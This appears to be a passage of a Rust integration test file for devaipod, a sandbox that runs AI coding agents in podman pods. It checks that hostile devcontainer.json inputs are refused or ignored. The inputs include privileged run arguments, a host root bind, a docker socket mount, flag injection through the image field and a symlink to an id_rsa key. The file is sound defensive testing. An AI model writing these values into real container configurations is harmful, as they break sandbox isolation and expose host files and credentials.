    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v["network"]["credentials"][0]["provider"], "mistral");
    assert_eq!(v["agent_config"]["model"], "mistral/devstral-medium-latest");

    // Errors name both sides, with the file's line and column.
    let file = u.file().display().to_string();
    for (config, env, want) in [
        (
            "[agent.opencode.provider.openai.options]\napiKey = \"{file:/run/secrets/K}\"\n",
            ("OPENAI_API_KEY", sentinel),
            format!("{file}:2:1: [agent.opencode] provider.openai.options.apiKey configures provider openai by hand, but OPENAI_API_KEY is set in devaipod's environment, which makes openai a built-in credential route (the proxy holds the key): remove provider.openai.options.apiKey to use the preset, or set [agent] providers to the presets you want (without openai)"),
        ),
        (
            "[agent]\nsecrets = [\"XAI_API_KEY\"]\n",
            ("XAI_API_KEY", sentinel),
            "[agent] secrets lists XAI_API_KEY, which puts it inside the agent, but XAI_API_KEY is set in devaipod's environment".to_string(),
        ),
        (
            "[agent]\nproviders = [\"groq\"]\n",
            ("OPENAI_API_KEY", sentinel),
            format!("{file}:2:14: [agent] providers names groq, but GROQ_API_KEY is not set in devaipod's environment: export GROQ_API_KEY, or name a podman secret that holds the key (groq=SECRET), or remove groq from providers"),
        ),
        (
            "[agent]\nproviders = [\"ollama\"]\n",
            ("OPENAI_API_KEY", sentinel),
            format!("{file}:2:14: [agent] providers: \"ollama\" is no built-in preset (the presets: anthropic, openai, openrouter, groq, mistral, deepseek, xai, google); configure ollama with [agent.credentials.ollama]"),
        ),
    ] {
        let o = u.run(config, &[".", "--dry-run"], &[env]);
        assert_fails_with(&o, &want);
        assert!(!stderr(&o).contains(sentinel), "{}", stderr(&o));
    }
    // The test-only redirect is warned about, checked like a base_url, and taken only
    // beside the fake internet's name map.
    let hosts = u.dir.path().join("hosts");
    std::fs::write(&hosts, "llm.test 198.51.100.7\n").expect("write");
    let hosts = hosts.display().to_string();
    let redirect = (
        "DEVAIPOD_TEST_PRESET_URLS",
        "deepseek=https://llm.test/x/v1",
    );
    let o = u.run("", &dry, &[("DEEPSEEK_API_KEY", sentinel), redirect]);
    assert_fails_with(
        &o,
        "DEVAIPOD_TEST_PRESET_URLS is set without DEVAIPOD_TEST_NET_HOSTS: it is a test-only setting of the fake internet (tests/net), never for real keys; unset it",
    );
    let o = u.run(
        "",
        &dry,
        &[
            ("DEEPSEEK_API_KEY", sentinel),
            redirect,
            ("DEVAIPOD_TEST_NET_HOSTS", &hosts),
        ],
    );
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(
        v["network"]["credentials"][0]["base_url"],
        "https://llm.test/x/v1"
    );
    assert!(
        v["warnings"].to_string().contains("DEVAIPOD_TEST_PRESET_URLS is set: the deepseek preset goes to https://llm.test/x/v1 instead of https://api.deepseek.com (a test-only setting)"),
        "{}",
        v["warnings"]
    );
    let o = u.run(
        "",
        &dry,
        &[
            ("DEVAIPOD_TEST_PRESET_URLS", "deepseek=https://10.0.0.1/v1"),
            ("DEVAIPOD_TEST_NET_HOSTS", &hosts),
        ],
    );
    assert_fails_with(
        &o,
        "DEVAIPOD_TEST_PRESET_URLS: base_url \"https://10.0.0.1/v1\": host \"10.0.0.1\": an IP address literal",
    );
    // --model is checked as a flag.
    let o = u.run("", &[".", "--dry-run", "--model", "claude"], &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("invalid value 'claude' for '--model <PROVIDER/MODEL>': an opencode model id is PROVIDER/MODEL"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn the_workspace_gets_devaipod_net_for_ssh_unless_it_is_missing_in_full() {
    let u = UserConfig::new();
    let helpers = |v: &Value| {
        let ws = v["containers"]
            .as_array()
            .expect("containers")
            .iter()
            .find(|c| c["role"] == "workspace")
            .expect("a workspace")
            .clone();
        let mounted = ws["shared_mounts"].as_array().is_some_and(|m| {
            m.iter().any(|m| {
                m["image"]
                    .as_str()
                    .is_some_and(|i| i.starts_with("localhost/devaipod-net:"))
                    && m["volume"]
                        .as_str()
                        .is_some_and(|v| v.starts_with("devaipod-net-"))
                    && m["target"] == "/opt/devaipod-net"
            })
        });
        (mounted, v["pod"]["labels"]["io.devaipod.helper"].clone())
    };
    let dry = [".", "--name", "h", "--dry-run", "--json", "--network"];
    for mode in ["allowlist", "none", "full"] {
        let o = u.run("", &[&dry[..], &[mode]].concat(), &[]);
        assert!(o.status.success(), "{mode}: {}", stderr(&o));
        let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
        assert_eq!(
            helpers(&v),
            (true, Value::from("/opt/devaipod-net/devaipod-net")),
            "{mode}"
        );
    }
    let o = u.run("", &[".", "--name", "h", "--dry-run"], &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(
        text.lines()
            .any(|l| l.trim_start().starts_with("shared   devaipod-net-")
                && l.contains(" -> /opt/devaipod-net (read-only; localhost/devaipod-net:")
                && l.ends_with(":/opt/devaipod-net)")),
        "{text}"
    );

    // Without devaipod-net, `full` still plans (and `up` works), without the helpers.
    let missing = [("DEVAIPOD_NET_BIN", "/nonexistent/devaipod-net")];
    let o = u.run("", &[&dry[..], &["full"]].concat(), &missing);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(helpers(&v), (false, Value::Null));
    let warned = v["warnings"].as_array().is_some_and(|w| {
        w.iter().any(|w| {
            w.as_str().is_some_and(|w| {
                w.starts_with("devaipod-net was not found, so the workspace gets no SSH helpers")
            })
        })
    });
    assert!(warned, "{}", v["warnings"]);
}

#[test]
fn a_credential_value_never_reaches_the_output() {
    const SENTINEL: &str = "sk-sentinel-3b1f-never-printed";
    let u = UserConfig::new();
    let env = [("DEVAIPOD_TEST_CRED_KEY", SENTINEL), ("RUST_LOG", "trace")];
    let mut outputs = Vec::new();
    for args in [
        &[".", "--name", "s", "--dry-run", "--json"][..],
        &[".", "--name", "s", "--dry-run"],
        &[
            ".",
            "--name",
            "s",
            "--dry-run",
            "--network",
            "none",
            "--allow",
            "a.example",
        ],
        &[".", "--name", "s"],
    ] {
        outputs.push(u.run(NETWORK_CONFIG, args, &env));
    }
    assert!(outputs[0].status.success() && outputs[1].status.success());
    assert!(!outputs[2].status.success() && !outputs[3].status.success());
    // A key written where its variable's name belongs is refused without repeating it.
    let pasted = NETWORK_CONFIG.replace("DEVAIPOD_TEST_CRED_KEY", SENTINEL);
    outputs.push(u.run(&pasted, &[".", "--dry-run"], &env));
    assert_fails_with(
        &outputs[4],
        ":8:10: a secret entry is NAME or NAME=podman-secret",
    );
    for o in &outputs {
        let all = format!("{}{}", String::from_utf8_lossy(&o.stdout), stderr(o));
        assert!(!all.contains(SENTINEL), "the credential leaked: {all}");
    }
}

/// The agent's part of a dry-run plan that no repo file may change.
fn agent_settings(v: &Value) -> Value {
    let agent = plan_container(v, "agent");
    serde_json::json!({
        "user": agent["user"], "cap_drop": agent["cap_drop"], "cap_add": agent["cap_add"],
        "security_opt": agent["security_opt"], "seccomp": agent["seccomp"],
        "read_only": agent["read_only"], "pids": agent["pids_limit"], "memory": agent["memory_limit"],
        "env_names": agent["env_names"], "secrets": agent["secrets"],
        // The workspace folder differs per repo; everything else must not.
        "mounts": agent["mounts"].as_array().map(|m| m.iter().map(|x| {
            let t = x["target"].as_str().unwrap_or_default();
            let t = if t.starts_with("/workspaces/") || t == "/w" { "WORKSPACE" } else { t };
            serde_json::json!([x["source"].as_str().map(|s| s.rsplit('-').next().unwrap_or_default().to_string()), t, x["read_only"]])
        }).collect::<Vec<_>>()),
    })
}

/// Security research section 4: every bad input ends in a clear error, or in the
/// documented safe behaviour (ignored with a warning naming it), never in a wider
/// sandbox, a leaked value or an executed command. Dry runs: nothing is created.
/// A repo asking for every widening setting at once.
const PRIVILEGED: &str = r#"{"image": "localhost/x:1", "remoteUser": "dev", "privileged": true, "runArgs": ["--privileged", "--cap-add=ALL", "--security-opt=seccomp=unconfined", "--device=/dev/sda", "-v", "/:/host"], "capAdd": ["ALL"], "securityOpt": ["label=disable"], "init": false}"#;

#[test]
fn bad_inputs_from_the_repo_cannot_widen_access() {
    let baseline = {
        let r = repo(Some(r#"{"image": "localhost/x:1", "remoteUser": "dev"}"#));
        let o = devaipod(&["up", ".", "--name", "b", "--dry-run", "--json"], r.path());
        assert!(o.status.success(), "{}", stderr(&o));
        let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
        agent_settings(&v)
    };
    let marker = tempfile::tempdir().expect("tempdir");
    let ran = marker.path().join("initialize-ran");
    // (case, devcontainer.json, properties that must be warned about)
    let warned: Vec<(&str, String, Vec<&str>)> = vec![
        ("2 workspaceMount", r#"{"image": "localhost/x:1", "remoteUser": "dev", "workspaceMount": "source=/,target=/w,type=bind", "workspaceFolder": "/w"}"#.into(), vec![]),
        ("3 initializeCommand", format!(r#"{{"image": "localhost/x:1", "remoteUser": "dev", "initializeCommand": "touch {}"}}"#, ran.display()), vec![]),
        ("4 lifecycle commands", r#"{"image": "localhost/x:1", "remoteUser": "dev", "onCreateCommand": "x", "postCreateCommand": ["y"], "postStartCommand": {"a": "z"}, "postAttachCommand": "w", "updateContentCommand": "v"}"#.into(), vec![]),
        ("5 env forwarding", r#"{"image": "localhost/x:1", "remoteUser": "dev", "customizations": {"devaipod": {"envAllowlist": ["DEVAIPOD_BAD_INPUT_TOKEN"], "env_allowlist": ["GH_TOKEN"]}}}"#.into(), vec!["customizations"]),
        ("6 egress widening", r#"{"image": "localhost/x:1", "remoteUser": "dev", "customizations": {"devaipod": {"allowedDomains": ["*", "1.2.3.4"]}}}"#.into(), vec!["customizations"]),
        ("8 features", r#"{"image": "localhost/x:1", "remoteUser": "dev", "features": {"ghcr.io/evil/feature:1": {}}}"#.into(), vec![]),
        ("9 root remoteUser", r#"{"image": "localhost/x:1", "remoteUser": "root", "containerUser": "root"}"#.into(), vec![]),
    ];
    for (case, config, props) in &warned {
        let r = repo(Some(config));
        let o = devaipod_cmd()
            .args(["up", ".", "--name", "b", "--dry-run", "--json"])
            .current_dir(r.path())
            .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
            .env("DEVAIPOD_BAD_INPUT_TOKEN", "bad-input-sentinel-77")
            .output()
            .expect("runs");
        assert!(o.status.success(), "{case}: {}", stderr(&o));
        let text = String::from_utf8_lossy(&o.stdout);
        assert!(
            !text.contains("bad-input-sentinel-77")
                && !stderr(&o).contains("bad-input-sentinel-77"),
            "{case}: value leaked"
        );
        let v: Value = serde_json::from_str(&text).expect("JSON");
        assert_eq!(
            agent_settings(&v),
            baseline,
            "{case}: the agent's settings changed"
        );
        let ws = plan_container(&v, "workspace");
        assert_eq!(ws["cap_add"], serde_json::json!([]), "{case}");
        assert_eq!(ws["security_opt"], serde_json::json!([]), "{case}");
        let targets: Vec<&str> = ws["mounts"]
            .as_array()
            .expect("mounts")
            .iter()
            .filter_map(|m| m["target"].as_str())
            .collect();
        assert_eq!(
            targets.len(),
            2,
            "{case}: extra workspace mounts {targets:?}"
        );
        let warnings = v["warnings"].to_string();
        if case.contains("features") {
            assert!(
                warnings.contains(
                    "features ghcr.io/evil/feature:1 are installed by `up` into a derived image"
                ),
                "{case}: {warnings}"
            );
        }
        for p in props {
            assert!(
                warnings.contains(&format!("\\\"{p}\\\" is not applied")),
                "{case}: no warning for {p}: {warnings}"
            );
        }
    }
    assert!(!ran.exists(), "initializeCommand ran on the host");
    // 3: a dry run shows initializeCommand as needing approval (and never runs it).
    let r = repo(Some(&warned[1].1));
    let o = devaipod(&["up", ".", "--name", "b", "--dry-run", "--json"], r.path());
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v["initialize"]["approved"], false, "{v}");
    assert!(!ran.exists(), "initializeCommand ran on the host");
    // 1: with consent the workspace gets what it asked for; the agent does not change.
    let r = repo(Some(PRIVILEGED));
    let o = devaipod(
        &["up", ".", "--name", "b", "--dry-run", "--json", "--trust"],
        r.path(),
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(
        agent_settings(&v),
        baseline,
        "1: the agent's settings changed"
    );
    let ws = plan_container(&v, "workspace");
    assert_eq!(ws["privileged"], true);
    assert_eq!(ws["cap_add"], serde_json::json!(["ALL", "ALL"]));
    // 4: lifecycle commands run in the workspace only (the plan says so), never the agent.
    let r = repo(Some(
        r#"{"image": "localhost/x:1", "onCreateCommand": "x", "postStartCommand": {"a": "y"}}"#,
    ));
    let o = devaipod(&["up", ".", "--name", "b", "--dry-run", "--json"], r.path());
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    let props: Vec<&str> = v["lifecycle"]["create"]
        .as_array()
        .expect("create")
        .iter()
        .filter_map(|s| s["property"].as_str())
        .collect();
    assert_eq!(props, ["onCreateCommand", "postStartCommand"]);
    assert_eq!(v["lifecycle"]["start"][0]["property"], "postStartCommand");

    // Inputs that are refused outright, with what was wrong.
    let refused: Vec<(&str, &str, &str)> = vec![
        (
            "1 host namespaces",
            r#"{"image": "localhost/x:1", "runArgs": ["--pid=host"]}"#,
            "--pid=host is refused",
        ),
        (
            "1 network",
            r#"{"image": "localhost/x:1", "runArgs": ["--network=host"]}"#,
            "--network host is refused",
        ),
        (
            "1 userns",
            r#"{"image": "localhost/x:1", "runArgs": ["--userns=host"]}"#,
            "--userns=host is refused",
        ),
        (
            "1 privileged without consent",
            PRIVILEGED,
            "needs your consent",
        ),
        (
            "7 build context outside",
            r#"{"build": {"context": "/", "dockerfile": "devcontainer.json"}}"#,
            "the build context \"/\" resolves to /, outside the repository",
        ),
        (
            "7 Dockerfile outside",
            r#"{"build": {"dockerfile": "/etc/hostname"}}"#,
            "outside the repository",
        ),
        (
            "9 image flag injection",
            r#"{"image": "--privileged"}"#,
            "image reference",
        ),
        (
            "9 image volume injection",
            r#"{"image": "-v=/:/h"}"#,
            "image reference",
        ),
        (
            "2 host binds without consent",
            r#"{"image": "localhost/x:1", "mounts": ["source=/,target=/host,type=bind"]}"#,
            "--trust",
        ),
        (
            "2 home directory bind without consent",
            r#"{"image": "localhost/x:1", "mounts": [{"source": "${localEnv:HOME}/.ssh", "target": "/k", "type": "bind"}]}"#,
            "--trust",
        ),
        (
            "2 relative bind source",
            r#"{"image": "localhost/x:1", "mounts": [{"source": "../..", "target": "/up", "type": "bind"}]}"#,
            "absolute source",
        ),
        (
            "5 remoteEnv from the host without consent",
            r#"{"image": "localhost/x:1", "remoteEnv": {"Y": "${localEnv:DEVAIPOD_BAD_INPUT_TOKEN}"}}"#,
            "--trust",
        ),
        (
            "5 containerEnv from the host without consent",
            r#"{"image": "localhost/x:1", "containerEnv": {"X": "${localEnv:DEVAIPOD_BAD_INPUT_TOKEN}"}}"#,
            "--trust",
        ),
        (
            "9 workspaceFolder /",
            r#"{"image": "localhost/x:1", "workspaceFolder": "/"}"#,
            "system or devaipod path",
        ),
        (
            "9 workspaceFolder /proc/self",
            r#"{"image": "localhost/x:1", "workspaceFolder": "/proc/self"}"#,
            "system or devaipod path",
        ),
        (
            "9 workspaceFolder host env",
            r#"{"image": "localhost/x:1", "workspaceFolder": "/w/${localEnv:HOME}"}"#,
            "${localEnv:",
        ),
        (
            "11 duplicate key",
            r#"{"image": "localhost/x:1", "image": "localhost/y:1"}"#,
            "duplicate",
        ),
        (
            "11 unterminated comment",
            r#"{"image": "localhost/x:1" /* never closed"#,
            "devcontainer.json:1:",
        ),
        (
            "11 unterminated string",
            r#"{"image": "localhost/x:1"#,
            "devcontainer.json:1:",
        ),
        ("11 NUL byte", "{\"image\": \"a\u{0}b\"}", "image reference"),
        ("11 not an object", r#"["image"]"#, "devcontainer.json:1:"),
    ];
    for (case, config, want) in &refused {
        let r = repo(Some(config));
        let o = devaipod(&["up", ".", "--name", "b", "--dry-run", "--json"], r.path());
        assert_eq!(
            o.status.code(),
            Some(1),
            "{case}: {}",
            String::from_utf8_lossy(&o.stdout)
        );
        assert!(stderr(&o).contains(want), "{case}: {}", stderr(&o));
        assert!(o.stdout.is_empty(), "{case}");
    }

    // 11: huge and deeply nested files; non-UTF-8.
    let r = repo(Some("{}"));
    let cfg = r.path().join(".devcontainer/devcontainer.json");
    std::fs::write(&cfg, vec![b' '; 2 * 1024 * 1024]).expect("write");
    let o = devaipod(&["up", ".", "--dry-run"], r.path());
    assert!(stderr(&o).contains("larger than the"), "{}", stderr(&o));
    std::fs::write(&cfg, format!("{{\"a\": {}", "[".repeat(100_000))).expect("write");
    let o = devaipod(&["up", ".", "--dry-run"], r.path());
    assert_eq!(o.status.code(), Some(1));
    assert!(!stderr(&o).contains("panicked"), "{}", stderr(&o));
    std::fs::write(&cfg, b"{\"image\": \"\xff\xfe\"}").expect("write");
    let o = devaipod(&["up", ".", "--dry-run"], r.path());
    assert_fails_with(&o, "devcontainer.json");

    // 12: a devcontainer.json that is a symlink out of the repo is not read.
    let secret_dir = tempfile::tempdir().expect("tempdir");
    let secret = secret_dir.path().join("id_rsa");
    std::fs::write(&secret, "{\"image\": \"secret-key-material\"}").expect("write");
    let r = repo(None);
    std::fs::create_dir(r.path().join(".devcontainer")).expect("mkdir");
    std::os::unix::fs::symlink(&secret, r.path().join(".devcontainer/devcontainer.json"))
        .expect("symlink");
    let o = devaipod(&["up", ".", "--dry-run", "--json"], r.path());
    assert_fails_with(&o, "outside");
    assert!(!stderr(&o).contains("secret-key-material") && o.stdout.is_empty());
    let o = devaipod(&["config", "."], r.path());
    assert_fails_with(&o, "outside");
}

#[test]
fn the_user_may_set_the_agents_limits_and_grant_trust() {
    let r = repo(Some(r#"{"image": "localhost/x:1"}"#));
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = dir.path().join("devaipod.toml");
    std::fs::write(&cfg, "[agent]\npids_limit = 2048\nmemory_limit = \"2g\"\n").expect("write");
    let run = |args: &[&str]| {
        devaipod_cmd()
            .args(args)
            .current_dir(r.path())
            .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
            .env("DEVAIPOD_CONFIG", &cfg)
            .output()
            .expect("runs")
    };
    let o = run(&["up", ".", "--name", "l", "--dry-run", "--json"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    let agent = plan_container(&v, "agent");
    assert_eq!(agent["pids_limit"], 2048);
    assert_eq!(agent["memory_limit"], 2_147_483_648_i64);
    assert_eq!(v["trust"]["granted_by"], Value::Null);
    let o = run(&["up", ".", "--name", "l", "--dry-run", "--json", "--trust"]);
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v["trust"]["granted_by"], "--trust");
    assert_eq!(v["trust"]["applied"], serde_json::json!([]));
    std::fs::write(&cfg, "[agent]\nmemory_limit = \"lots\"\n").expect("write");
    let o = run(&["up", ".", "--dry-run"]);
    assert_fails_with(&o, "memory_limit");
}

#[test]
fn container_env_from_the_host_needs_consent_and_shows_no_value() {
    let r = repo(Some(
        r#"{"image": "localhost/x:1", "containerEnv": {"PLAIN": "1", "FROM_HOST": "${localEnv:DEVAIPOD_CE_TEST}"}}"#,
    ));
    let run = |extra: &[&str]| {
        let mut args = vec!["up", ".", "--name", "ce", "--dry-run", "--json"];
        args.extend_from_slice(extra);
        devaipod_cmd()
            .args(&args)
            .current_dir(r.path())
            .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
            .env("DEVAIPOD_CE_TEST", "ce-value-not-shown")
            .output()
            .expect("runs")
    };
    let o = run(&[]);
    assert_fails_with(&o, "FROM_HOST");
    let o = run(&["--trust"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(!text.contains("ce-value-not-shown"));
    let v: Value = serde_json::from_str(&text).expect("JSON");
    assert_eq!(v["trust"]["granted_by"], "--trust");
    assert!(
        v["trust"]["applied"].to_string().contains("FROM_HOST"),
        "{v}"
    );
    let names = plan_container(&v, "workspace")["env_names"].to_string();
    assert!(
        names.contains("PLAIN") && names.contains("FROM_HOST"),
        "{names}"
    );
    assert!(
        !plan_container(&v, "agent")["env_names"]
            .to_string()
            .contains("PLAIN"),
        "containerEnv reached the agent"
    );
}

#[test]
fn compose_configs_and_bad_builds_are_refused_clearly() {
    let r = repo(Some(r#"{"dockerComposeFile": "c.yml", "service": "app"}"#));
    let o = devaipod(&["up", ".", "--dry-run"], r.path());
    assert_fails_with(&o, "Compose configurations");
    let r = repo(Some(r#"{"build": {"dockerfile": "Dockerfile"}}"#));
    let o = devaipod(&["up", ".", "--dry-run"], r.path());
    assert_fails_with(&o, "the Dockerfile \"Dockerfile\" resolves to");
    assert!(
        stderr(&o).contains("which does not exist"),
        "{}",
        stderr(&o)
    );
    let r = repo(Some(
        r#"{"build": {"dockerfile": "devcontainer.json", "options": ["--squash"]}}"#,
    ));
    let o = devaipod(&["up", ".", "--dry-run"], r.path());
    assert_fails_with(&o, "build.options: --squash is not supported");
}

#[test]
fn repo_mounts_volume_and_tmpfs_freely_binds_with_consent_sockets_never() {
    let host = tempfile::tempdir().expect("tempdir");
    let data = host.path().join("data");
    std::fs::create_dir(&data).expect("mkdir");
    let sock_dir = tempfile::tempdir().expect("tempdir");
    let sock = sock_dir.path().join("x.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&sock).expect("socket");
    let link = host.path().join("innocent");
    std::os::unix::fs::symlink(&sock, &link).expect("symlink");
    let cfg = |mounts: &str| format!(r#"{{"image": "localhost/x:1", "mounts": {mounts}}}"#);
    let plan = |config: &str, trust: bool| {
        let r = repo(Some(config));
        let mut args = vec!["up", ".", "--name", "m", "--dry-run", "--json"];
        if trust {
            args.push("--trust");
        }
        devaipod(&args, r.path())
    };
    let ok = plan(
        &cfg(
            r#"["source=cache,target=/cache,type=volume", {"type": "tmpfs", "target": "/scratch"}]"#,
        ),
        false,
    );
    assert!(ok.status.success(), "{}", stderr(&ok));
    let v: Value = serde_json::from_slice(&ok.stdout).expect("JSON");
    let targets = plan_container(&v, "workspace")["mounts"].to_string();
    assert!(
        targets.contains("/cache") && targets.contains("/scratch"),
        "{targets}"
    );
    assert!(
        !plan_container(&v, "agent")["mounts"]
            .to_string()
            .contains("/cache"),
        "the agent got a repo mount"
    );

    let bind = cfg(&format!(
        r#"["type=bind,source={},target=/data"]"#,
        data.display()
    ));
    assert_fails_with(&plan(&bind, false), "--trust");
    let trusted = plan(&bind, true);
    assert!(trusted.status.success(), "{}", stderr(&trusted));
    let v: Value = serde_json::from_slice(&trusted.stdout).expect("JSON");
    assert!(v["trust"]["applied"].to_string().contains("/data"), "{v}");

    for (case, mounts, want) in [
        (
            "docker socket",
            r#"["type=bind,source=/var/run/docker.sock,target=/s"]"#.to_string(),
            "never mounted",
        ),
        (
            "socket via symlink",
            format!(r#"["type=bind,source={},target=/s"]"#, link.display()),
            "never mounted",
        ),
        (
            "missing source",
            r#"["type=bind,source=/nonexistent/devaipod,target=/s"]"#.to_string(),
            "does not exist",
        ),
        (
            "reserved target",
            r#"["source=v,target=/etc,type=volume"]"#.to_string(),
            "system or devaipod path",
        ),
        (
            "bad type",
            r#"["source=v,target=/x,type=npipe"]"#.to_string(),
            "not volume, bind or tmpfs",
        ),
        (
            "relative target",
            r#"["source=v,target=x,type=volume"]"#.to_string(),
            "absolute target",
        ),
        (
            "odd volume name",
            r#"["source=../v,target=/x,type=volume"]"#.to_string(),
            "volume name",
        ),
    ] {
        assert_fails_with(&plan(&cfg(&mounts), true), want);
        let _ = case;
    }
}

#[test]
fn the_oc_shim_says_clearly_when_there_is_no_opencode() {
    let empty = tempfile::tempdir().expect("tempdir");
    for shim in ["shims/oc", "shims/opencode-agent"] {
        let o = Command::new("/bin/sh")
            .arg(shim)
            .env("PATH", empty.path())
            .output()
            .expect("sh runs");
        assert_eq!(o.status.code(), Some(127), "{shim}");
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains("has no opencode"), "{shim}: {err}");
    }
}

#[test]
fn tasks_are_checked_before_anything_else() {
    let r = repo(Some(r#"{"image": "localhost/x:1"}"#));
    let o = devaipod(
        &["up", ".", "--task-file", "/nonexistent/task.md"],
        r.path(),
    );
    assert_fails_with(&o, "reading the task file /nonexistent/task.md");
    let o = devaipod(&["up", ".", "  \n"], r.path());
    assert_fails_with(&o, "the task is empty");
    let o = devaipod(&["up", ".", "do it", "--task-file", "x"], r.path());
    assert_eq!(o.status.code(), Some(2), "TASK and --task-file conflict");
    let o = devaipod(&["task", "w"], r.path());
    assert_eq!(o.status.code(), Some(2), "task needs TEXT or --file");
}

#[test]
fn service_gator_scopes_are_validated_before_anything_is_made() {
    let r = repo(Some(r#"{"image": "localhost/x:1"}"#));
    for (scope, want) in [
        (
            "github:octo/*:write",
            "--service-gator-allow-wildcard-write",
        ),
        ("github:octo", "not OWNER/REPO"),
        ("bitbucket:a/b", "unknown service"),
        ("github:a/b:admin", "unknown permission"),
    ] {
        let o = devaipod(
            &["up", ".", "--dry-run", "--service-gator", scope],
            r.path(),
        );
        assert_fails_with(&o, want);
    }
    let o = devaipod(
        &[
            "up",
            ".",
            "--dry-run",
            "--json",
            "--service-gator",
            "github:octo/*:write",
            "--service-gator-allow-wildcard-write",
            "--service-gator-image",
            "localhost/gator:1",
        ],
        r.path(),
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(
        v["gator"]["scopes"],
        serde_json::json!(["github:octo/*:read,write"])
    );
    let gator = plan_container(&v, "gator");
    assert_eq!(gator["cap_drop"], serde_json::json!(["ALL"]));
    // service-gator behind devaipod-net's logging relay: the agent's port is the
    // relay's; without an engine the image's entrypoint is the published one, said so.
    let command: Vec<&str> = gator["command"]
        .as_array()
        .expect("command")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert_eq!(
        command[..10],
        [
            "/opt/devaipod-net/devaipod-net",
            "mcp-audit",
            "--listen",
            "127.0.0.1:8765",
            "--upstream",
            "127.0.0.1:8766",
            "--",
            "service-gator",
            "--mcp-server",
            "127.0.0.1:8766"
        ]
    );
    assert_eq!(v["gator"]["server"], "127.0.0.1:8766");
    assert!(
        v["gator"]["entrypoint_from"]
            .as_str()
            .is_some_and(|f| f.starts_with("assumed \"service-gator\"")),
        "{}",
        v["gator"]
    );
    let o = devaipod(
        &[
            "up",
            ".",
            "--dry-run",
            "--service-gator",
            "github:octo/hello",
        ],
        r.path(),
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        String::from_utf8_lossy(&o.stdout).contains(
            "devaipod-net's relay logs each MCP request and its outcome; service-gator (service-gator, assumed"
        ),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    // Without devaipod-net there is no relay, so no gator (even with network full).
    let o = devaipod_cmd()
        .args([
            "up",
            ".",
            "--dry-run",
            "--network",
            "full",
            "--service-gator",
            "github:octo/hello",
        ])
        .current_dir(r.path())
        .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
        .env("DEVAIPOD_NET_BIN", "/nonexistent/devaipod-net")
        .output()
        .expect("devaipod runs");
    assert_fails_with(&o, "service-gator needs devaipod-net in its container");
}

/// The `__http` helper (what `up TASK`, `task` and `status` run in the pod's network
/// namespace) as its own process: the request on stdin reaches a server on the agent's
/// port with the password as basic auth, and the answer comes back as JSON on stdout,
/// even when the server keeps the connection open.
#[test]
fn the_http_helper_carries_one_request_to_the_agent_port() {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind(("127.0.0.1", 4096)).unwrap_or_else(|e| {
        panic!("this test serves the agent's port 127.0.0.1:4096 itself; free it first: {e}")
    });
    let server = std::thread::spawn(move || {
        let (mut s, _) = listener.accept().expect("accept");
        let mut seen = Vec::new();
        let mut buf = [0u8; 4096];
        while !seen.windows(2).any(|w| w == b"{}") {
            let n = s.read(&mut buf).expect("read");
            assert!(n > 0, "the request ended early");
            seen.extend_from_slice(&buf[..n]);
        }
        s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 11\r\n\r\n{\"ok\":true}")
            .expect("write");
        // Held open: the helper must finish by the response's own framing.
        let mut rest = Vec::new();
        let _ = s.read_to_end(&mut rest);
        String::from_utf8_lossy(&seen).into_owned()
    });
    let mut child = devaipod_cmd()
        .arg("__http")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("devaipod runs");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(
            br#"{"method":"POST","path":"/session?directory=%2Fw","body":{},"password":"pw","timeout_ms":10000}"#,
        )
        .expect("write the request");
    let o = child.wait_with_output().expect("wait");
    assert!(o.status.success(), "{}", stderr(&o));
    let answer: Value = serde_json::from_slice(&o.stdout).expect("JSON answer");
    assert_eq!(
        answer,
        serde_json::json!({"status": 200, "body": {"ok": true}})
    );
    let request = server.join().expect("server");
    assert!(
        request.starts_with("POST /session?directory=%2Fw HTTP/1.1\r\n"),
        "{request}"
    );
    // base64("opencode:pw")
    assert!(
        request.contains("authorization: Basic b3BlbmNvZGU6cHc=")
            || request.contains("Authorization: Basic b3BlbmNvZGU6cHc="),
        "{request}"
    );
}

/// Control characters other than newlines in `out` (raw ESC, BEL, C1, bidi overrides).
fn raw_controls(out: &str) -> Vec<char> {
    out.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect()
}

#[test]
fn repo_text_reaches_the_terminal_escaped_and_json_exactly() {
    // Window title, cleared screen, bidi override, C1 CSI: JSON-escaped in the file.
